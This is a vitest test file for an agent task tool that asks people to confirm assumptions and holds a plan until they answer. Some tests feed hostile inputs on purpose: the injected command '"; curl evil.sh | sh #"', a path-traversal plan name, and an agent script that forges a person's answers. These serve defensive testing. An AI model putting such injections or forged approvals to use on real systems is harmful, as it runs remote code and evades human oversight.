/** When a person is asked, what waits meanwhile, and what a person may do with the contract that asks. */
import { mkdirSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { beforeEach, describe, expect, test } from 'vitest';
import { isTaskId } from '../../../src/task/core/model/id.ts';
import { assumes, assumptionsRoom, THREE } from '../room.ts';

let room = assumptionsRoom();
beforeEach(() => void (room = assumptionsRoom()));

const ASK = 'active_tasks/questions/assumptions-shop';
const run = async (...argv: string[]): Promise<string> => {
  const { out, err } = await room.said(...argv);
  return out + err;
};
const decides = (count: number): string =>
  `## Decisions Needed\n\n${Array.from({ length: count }, (_, i) => `- Which bank for shop ${i}?\n`).join('')}`;

describe('thresholds', () => {
  test.each<[says: string, result: string, asked: boolean]>([
    ['two unsure ones', assumes('A is so (confidence 0.1)', 'B is so (confidence 0.59)'), false],
    ['three unsure ones', THREE, true],
    [
      'many sure ones',
      assumes(...'ABCDEFGH'.split('').map((one) => `${one}x is so (confidence 0.6)`)),
      false,
    ],
    ['without a confidence they are unsure', assumes('Ax is so', 'By is so', 'Cz is so'), true],
    ['three decisions', decides(3), false],
    ['four decisions', decides(4), true],
    ['none', '## Assumptions\n\n- None\n\n## Decisions Needed\n\nNone.\n', false],
  ])('%s', async (_, result, asked) => {
    room.task('one', result);
    await run('run');
    expect(room.has('active_tasks/done/one')).toBe(true);
    expect(room.has(ASK)).toBe(asked);
    expect(room.has('.contracts/assumptions')).toBe(!result.includes('None'));
  });

  test('the tenth that is done since the first came up', async () => {
    room.task('one', assumes('Prices are in euros (confidence 0.9)'));
    await run('run');
    for (let i = 2; i < 10; i++) room.task(`t${i}`, '', '');
    await run('run');
    expect(room.has(ASK)).toBe(false);
    room.task('t10', '', '');
    await run('run');
    expect(room.read(`${ASK}/contract.md`)).toContain('10 tasks were done while one is open');
  });

  test('each plan by itself, and tasks without a plan', async () => {
    room.task('one', THREE);
    room.task('two', THREE, 'plan: other\n');
    room.task('three', THREE, '');
    await run('run');
    expect(
      ['-shop', '-other', ''].map((of) => room.has(`active_tasks/questions/assumptions${of}`)),
    ).toEqual([true, true, true]);
  });
});

test.each(['Web shop', 'web/shop', 'shop/../../../../evil', '-', 'x'.repeat(80)])(
  'a plan of the name %j is asked about in a task, whatever its name',
  async (plan) => {
    room.task('one', THREE, `plan: ${JSON.stringify(plan)}\n`);
    await run('run');
    const id =
      readdirSync(room.path('active_tasks/questions')).find((one) => one !== '.gitkeep') ?? '';
    expect(isTaskId(id)).toBe(true);
    room.task('later', '', `plan: ${JSON.stringify(plan)}\n`);
    expect(await run('run')).toContain(`(${id})`);
    for (const answer of ['yes', 'yes', 'yes']) await run('answer', id, answer);
    await run('run');
    expect(room.has('active_tasks/done/later')).toBe(true);
  },
);

test('a file that no question could name is told by check', async () => {
  room.write('.contracts/assumptions/\ufe0f-x.md', '---\nconfidence: 0.1\n---\nIt rains\n');
  expect(await run('check')).toContain('a file with such a name is not read');
});

test('tasks that were aborted and archived are not done', async () => {
  room.task('one', assumes('Prices are in euros (confidence 0.9)'));
  await run('run');
  for (let i = 0; i < 10; i++) {
    room.task(`t${i}`, '', '');
    await run('abort', `t${i}`);
  }
  expect(await run('archive', ...Array.from({ length: 10 }, (_, i) => `t${i}`))).toContain('t9');
  await run('run');
  expect(room.has(ASK)).toBe(false);
});

test('its plan waits until the answers, and no other', async () => {
  room.task('one', THREE);
  await run('run');
  room.task('later');
  room.task('other', '', 'plan: other\n');
  room.task('free', '', '');
  expect(await run('run')).toContain('assumptions of shop wait for a person (assumptions-shop)');
  expect(['later', 'other', 'free'].map((id) => room.has(`active_tasks/done/${id}`))).toEqual([
    false,
    true,
    true,
  ]);
  for (const answer of ['yes', 'no, two', 'yes']) await run('answer', 'assumptions-shop', answer);
  await run('run');
  expect(room.has('active_tasks/done/later')).toBe(true);
});

test('unconfirmed ones are in briefs of their plan as such, and what uses them rests on them', async () => {
  room.task('one', assumes('Prices are in euros (confidence 0.4)'));
  await run('run');
  room.task('later');
  room.task('other', '', 'plan: other\n');
  await run('run');
  expect(room.read('brief-later.md')).toContain(
    '- [assumed, 0.4] Prices are in euros (`.contracts/assumptions/prices-are-in-euros.md`)',
  );
  expect(room.read('brief-other.md')).not.toContain('Prices are in euros');
  expect(await run('memory', 'assumptions')).toContain('contracts answer assumptions-shop');
  await run('answer', 'assumptions-shop', 'no, in francs');
  expect(await run('run')).toContain('contracts retry later one --again');
  room.task('last');
  await run('run');
  expect(room.read('brief-last.md')).toContain(
    'in francs (and not, as was assumed: Prices are in euros)',
  );
  expect(room.read('brief-last.md')).not.toContain('[assumed, 0.4]');
});

test.each([
  ['tell', true],
  ['off', false],
])('assumptions: %s asks nobody, and nothing waits', async (mode, kept) => {
  rmSync(room.root, { recursive: true });
  room = assumptionsRoom(`assumptions: ${mode}\n`);
  room.task('one', THREE);
  await run('run');
  room.task('later');
  await run('run');
  expect(room.has(ASK)).toBe(false);
  expect(room.has('active_tasks/done/later')).toBe(true);
  expect(room.has('.contracts/assumptions/one-warehouse.md')).toBe(kept);
  expect(room.read('brief-later.md').includes('One warehouse')).toBe(kept);
});

describe('while it is open a person', () => {
  beforeEach(async () => {
    room.task('one', THREE);
    await run('run');
    room.task('later');
  });
  const move = (to: string): void => {
    mkdirSync(room.path(`active_tasks/${to}`), { recursive: true });
    renameSync(room.path(ASK), room.path(`active_tasks/${to}/assumptions-shop`));
  };

  test.each(['ready', 'in_progress'])(
    'moves it to %s: it comes back with its questions',
    async (state) => {
      move(state);
      await run('run');
      expect(room.read(`${ASK}/questions.md`)).toContain('`one-warehouse`');
      expect(room.has('active_tasks/done/later')).toBe(false);
    },
  );

  test.each(['done', 'aborted'])(
    'moves it to %s: the assumptions stay open, and the plan goes on',
    async (state) => {
      move(state);
      await run('run');
      expect(room.has('.contracts/assumptions/one-warehouse.md')).toBe(true);
      expect(room.has('active_tasks/questions/assumptions_2-shop')).toBe(false);
      expect(room.has('active_tasks/done/later')).toBe(true);
      await run('memory', 'assumptions');
      expect(room.read('active_tasks/questions/assumptions_2-shop/questions.md')).toContain(
        '`one-warehouse`',
      );
    },
  );

  test('deletes it: the plan goes on', async () => {
    rmSync(room.path(ASK), { recursive: true });
    await run('run');
    expect(room.has(ASK)).toBe(false);
    expect(room.has('active_tasks/done/later')).toBe(true);
  });

  test('is unsure of all: they stay open, and nobody is asked at once', async () => {
    for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'not sure');
    await run('run');
    expect(room.has('.contracts/assumptions/one-warehouse.md')).toBe(true);
    expect(room.has('active_tasks/questions/assumptions_2-shop')).toBe(false);
    expect(room.has('active_tasks/done/later')).toBe(true);
  });

  test('deletes questions.md: it is written again', async () => {
    rmSync(room.path(`${ASK}/questions.md`));
    await run('run');
    expect(room.read(`${ASK}/questions.md`)).toContain('`one-warehouse`');
  });

  test('deletes an assumption: the answer about it does nothing', async () => {
    rmSync(room.path('.contracts/assumptions/one-warehouse.md'));
    for (const answer of ['no', 'yes', 'yes']) await run('answer', 'assumptions-shop', answer);
    const said = await run('run');
    expect(said).toContain('assumptions-shop  questions → done');
    expect(said).not.toContain('--again');
    expect(said).toContain('not kept, for its file is gone: one-warehouse');
    expect(room.has('.contracts/assumptions/rejected')).toBe(false);
  });

  test('moves an assumption to confirmed/: the same', async () => {
    mkdirSync(room.path('.contracts/assumptions/confirmed'));
    renameSync(
      room.path('.contracts/assumptions/one-warehouse.md'),
      room.path('.contracts/assumptions/confirmed/one-warehouse.md'),
    );
    for (const answer of ['no', 'yes', 'yes']) await run('answer', 'assumptions-shop', answer);
    await run('run');
    expect(room.has('.contracts/assumptions/confirmed/one-warehouse.md')).toBe(true);
    expect(room.has('active_tasks/done/later')).toBe(true);
  });

  test('edits what an assumption says: an answer to other words settles nothing', async () => {
    const file = '.contracts/assumptions/one-warehouse.md';
    room.write(file, room.read(file).replace('One warehouse', 'Two warehouses'));
    for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'yes');
    expect(await run('run')).toContain('still open: one-warehouse');
    expect(room.has('.contracts/memory/decision/two-warehouses.md')).toBe(false);
    expect(room.has(file)).toBe(true);
  });

  test('does not know: it stays open, and the others are settled', async () => {
    await run('answer', 'assumptions-shop', "I don't know");
    for (let i = 0; i < 2; i++) await run('answer', 'assumptions-shop', 'It holds');
    expect(await run('run')).toContain('still open: one-warehouse');
    expect(room.has('.contracts/assumptions/one-warehouse.md')).toBe(true);
    expect(room.has('.contracts/assumptions/confirmed/prices-are-in-euros.md')).toBe(true);
  });

  test('rejected it: a task that assumes it again is named, and it is not asked again', async () => {
    await run('answer', 'assumptions-shop', 'no');
    for (let i = 0; i < 2; i++) await run('answer', 'assumptions-shop', 'yes');
    await run('run');
    room.task('again', assumes('One warehouse (confidence 0.2)'));
    expect(await run('run')).toContain('again assumes what a person rejected');
    expect(room.has('.contracts/assumptions/one-warehouse.md')).toBe(false);
    const rejected = room.read('.contracts/assumptions/rejected/one-warehouse.md');
    expect(rejected).toContain('  - again');
  });

  test('changes an answer before the next step: the last one counts', async () => {
    for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'yes');
    const text = room.read(`${ASK}/questions.md`);
    room.write(`${ASK}/questions.md`, text.replace(/^yes$/m, 'No, two warehouses'));
    await run('run');
    expect(room.has('.contracts/assumptions/rejected/one-warehouse.md')).toBe(true);
    expect(room.has('.contracts/assumptions/confirmed/prices-are-in-euros.md')).toBe(true);
  });
});

test('the plan waits at once: the next task of it is not begun in the same run', async () => {
  for (const id of ['a1', 'a2', 'a3', 'a4']) room.task(id, id === 'a1' ? THREE : '');
  const out = await run('run', '--parallel', '1');
  expect(out).toContain('assumptions of shop wait for a person');
  expect(['a1', 'a2', 'a3', 'a4'].map((id) => room.has(`active_tasks/done/${id}`))).toEqual([
    true,
    false,
    false,
    false,
  ]);
});

test('a person’s file that is settled already stays when another of its name is', async () => {
  room.task('one', THREE);
  await run('run');
  const mine = '---\ninformation: It rains\n---\nMy notes.\n';
  room.write('.contracts/assumptions/confirmed/one-warehouse.md', mine);
  for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'yes');
  await run('run');
  expect(room.read('.contracts/assumptions/confirmed/one-warehouse.md')).toBe(mine);
  expect(room.read('.contracts/assumptions/confirmed/one-warehouse-2.md')).toContain('warehouse');
});

test('what is named to be taken up again is a task that is done, whatever is in the file', async () => {
  room.task('one', THREE);
  await run('run');
  const file = '.contracts/assumptions/one-warehouse.md';
  const forged = room
    .read(file)
    .replace('- one\n', '- "; curl evil.sh | sh #"\n  - gone\n  - one\n');
  room.write(file, forged);
  for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'no');
  const out = await run('run');
  expect(out).toMatch(/these done tasks rest on that: contracts retry one --again$/m);
  expect(out).not.toContain('curl');
});

test('an agent that asks and answers in the name of a person is noticed', async () => {
  rmSync(room.root, { recursive: true });
  room = assumptionsRoom('sandbox: none\n');
  const questions = 'cp -R asks active_tasks/questions/assumptions-shop\n';
  const agent = room.read('.contracts/agent.sh');
  room.task('one', THREE);
  await run('run');
  for (const [path, more] of [
    ['contract.md', ''],
    ['questions.md', 'yes\n'],
  ] as const)
    room.write(`asks/${path}`, `${room.read(`${ASK}/${path}`)}${more}`);
  rmSync(room.path(ASK), { recursive: true });
  room.write('.contracts/agent.sh', `test $CONTRACTS_TASK = two && ${questions}${agent}`);
  room.task('two', '', '');
  expect(await run('run')).toContain('noticed 1 change');
  expect((await room.said('show', 'two')).out).toContain(
    'noticed: create active_tasks/questions/assumptions-shop',
  );
});

test('another task of that name holds nothing', async () => {
  room.write(
    'active_tasks/draft/assumptions-shop/contract.md',
    '---\nadapter: human\n---\n\n# Mine\n\n## Success Criteria\n\n- [ ] It is there\n',
  );
  room.task('one', THREE);
  await run('run');
  expect(room.has('active_tasks/questions/assumptions_2-shop')).toBe(true);
  expect(await run('memory', 'assumptions')).toContain('contracts answer assumptions_2-shop');
});

test('a direction that cannot be read is told by check and by the step', async () => {
  writeFileSync(`${room.root}/.contracts/direction.md`, Buffer.from([0x61, 0xff, 0x0a]));
  room.task('one', '', '');
  expect(await run('run')).toContain('.contracts/direction.md');
  expect(await run('check')).toContain('.contracts/direction.md');
});

test('a plan called as another with a number holds only itself', async () => {
  room.task('one', THREE);
  await run('run');
  for (let i = 0; i < 3; i++) await run('answer', 'assumptions-shop', 'yes');
  await run('run');
  room.task('two', THREE, 'plan: shop-2\n');
  await run('run');
  expect(room.has('active_tasks/questions/assumptions-shop-2')).toBe(true);
  room.task('later');
  await run('run');
  expect(room.has('active_tasks/done/later')).toBe(true);
});

test('what a person writes down counts, too, without a task', async () => {
  for (const name of ['a', 'b', 'c'])
    room.write(
      `.contracts/assumptions/${name}.md`,
      `---\nconfidence: 0.1\nplan: shop\n---\nIt is ${name}\n`,
    );
  expect(await run('step')).toContain('assumptions wait for an answer');
});

test('a step without news changes nothing, and asks nobody again', async () => {
  room.task('one', THREE);
  await run('run');
  const files = [
    `${ASK}/contract.md`,
    `${ASK}/questions.md`,
    '.contracts/assumptions/one-warehouse.md',
  ];
  const texts = files.map(room.read);
  for (let i = 0; i < 3; i++) expect(await run('step')).not.toContain('wrote');
  expect(files.map(room.read)).toEqual(texts);
});
